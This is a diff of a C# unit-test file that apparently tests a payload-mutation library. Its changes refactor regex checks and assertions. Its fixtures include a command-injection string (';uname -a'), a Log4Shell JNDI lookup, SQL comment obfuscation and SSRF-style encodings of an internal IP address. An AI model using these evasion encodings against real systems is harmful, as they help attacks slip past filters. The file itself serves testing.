@@ -93,15 +93,15 @@ public sealed class MutatorsTests
     }
 
     [Theory]
-    [InlineData("unicode-escape", @"\\u([0-9a-f]{4})")]
-    [InlineData("unicode-escape-partial", @"\\u([0-9a-f]{4})")]
-    [InlineData("hex-escape", @"\\x([0-9a-f]{2})")]
-    [InlineData("percent-u", @"%u([0-9A-F]{4})")]
+    [InlineData("unicode-escape", @"\\u(?<n>[0-9a-f]{4})")]
+    [InlineData("unicode-escape-partial", @"\\u(?<n>[0-9a-f]{4})")]
+    [InlineData("hex-escape", @"\\x(?<n>[0-9a-f]{2})")]
+    [InlineData("percent-u", @"%u(?<n>[0-9A-F]{4})")]
     public void Apply_Escapes_DecodeToTheOriginal(string name, string pattern)
     {
         string? encoded = Find(name).Apply(Sql, new SeededRandom(1));
         encoded.ShouldNotBeNull();
-        Regex.Replace(encoded, pattern, static m => ((char)int.Parse(m.Groups[1].ValueSpan, NumberStyles.HexNumber, CultureInfo.InvariantCulture)).ToString(), RegexOptions.None, TimeSpan.FromSeconds(1)).ShouldBe(Sql);
+        Regex.Replace(encoded, pattern, static m => ((char)int.Parse(m.Groups["n"].ValueSpan, NumberStyles.HexNumber, CultureInfo.InvariantCulture)).ToString(), RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe(Sql);
     }
 
     [Fact]
@@ -122,7 +122,7 @@ public sealed class MutatorsTests
     {
         string? mutated = Find(name).Apply(Sql, new SeededRandom(2));
         mutated.ShouldNotBeNull();
-        Regex.Replace(mutated, @"/\*.*?\*/", " ", RegexOptions.None, TimeSpan.FromSeconds(1)).ShouldBe(Sql);
+        Regex.Replace(mutated, @"/\*.*?\*/", " ", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe(Sql);
     }
 
     [Fact]
@@ -130,7 +130,7 @@ public sealed class MutatorsTests
     {
         string? mutated = Find("sql-versioned").Apply(Sql, new SeededRandom(2));
         mutated.ShouldNotBeNull();
-        Regex.Replace(mutated, @"/\*!\d*(\w+)\*/", "$1", RegexOptions.None, TimeSpan.FromSeconds(1)).ShouldBe(Sql);
+        Regex.Replace(mutated, @"/\*!\d*(?<w>\w+)\*/", "${w}", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe(Sql);
     }
 
     [Theory]
@@ -152,7 +152,7 @@ public sealed class MutatorsTests
         {
             string? mutated = Find("sql-integer").Apply("7", new SeededRandom(seed));
             mutated.ShouldNotBeNull();
-            mutated.ShouldBeOneOf("7.0", "0x7", "8-1", "(7)", "7e0", "~~7", "7+0");
+            ((string[])["7.0", "0x7", "8-1", "(7)", "7e0", "~~7", "7+0"]).Contains(mutated, StringComparer.Ordinal).ShouldBeTrue(mutated);
         }
     }
 
@@ -165,7 +165,7 @@ public sealed class MutatorsTests
         const string Command = ";uname -a";
         string? mutated = Find(name).Apply(Command, new SeededRandom(4));
         mutated.ShouldNotBeNull();
-        Regex.Replace(mutated, pattern, "", RegexOptions.None, TimeSpan.FromSeconds(1)).ShouldBe(Command);
+        Regex.Replace(mutated, pattern, "", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe(Command);
     }
 
     [Fact]
@@ -184,7 +184,7 @@ public sealed class MutatorsTests
         {
             string? mutated = Find("url-address").Apply("http://10.1.2.3/", new SeededRandom(seed));
             mutated.ShouldNotBeNull();
-            mutated.ShouldBeOneOf("http://167838211/", "http://0x0a010203/", "http://012.01.02.03/", "http://0xa.0x1.0x2.0x3/", "http://[::ffff:10.1.2.3]/", "http://10.1.2.3.nip.io/", "http://10.66051/");
+            ((string[])["http://167838211/", "http://0x0a010203/", "http://012.01.02.03/", "http://0xa.0x1.0x2.0x3/", "http://[::ffff:10.1.2.3]/", "http://10.1.2.3.nip.io/", "http://10.66051/"]).Contains(mutated, StringComparer.Ordinal).ShouldBeTrue(mutated);
         }
     }
 
@@ -195,7 +195,7 @@ public sealed class MutatorsTests
         {
             string? mutated = Find(name).Apply("${jndi:ldap://x.test/a}", new SeededRandom(4));
             mutated.ShouldNotBeNull();
-            Regex.Replace(mutated, @"\$\{[^{}]*[:-](\w)\}", "$1", RegexOptions.None, TimeSpan.FromSeconds(1)).ShouldBe("${jndi:ldap://x.test/a}", name);
+            Regex.Replace(mutated, @"\$\{[^{}]*[:-](?<c>\w)\}", "${c}", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).ShouldBe("${jndi:ldap://x.test/a}", name);
         }
     }
 
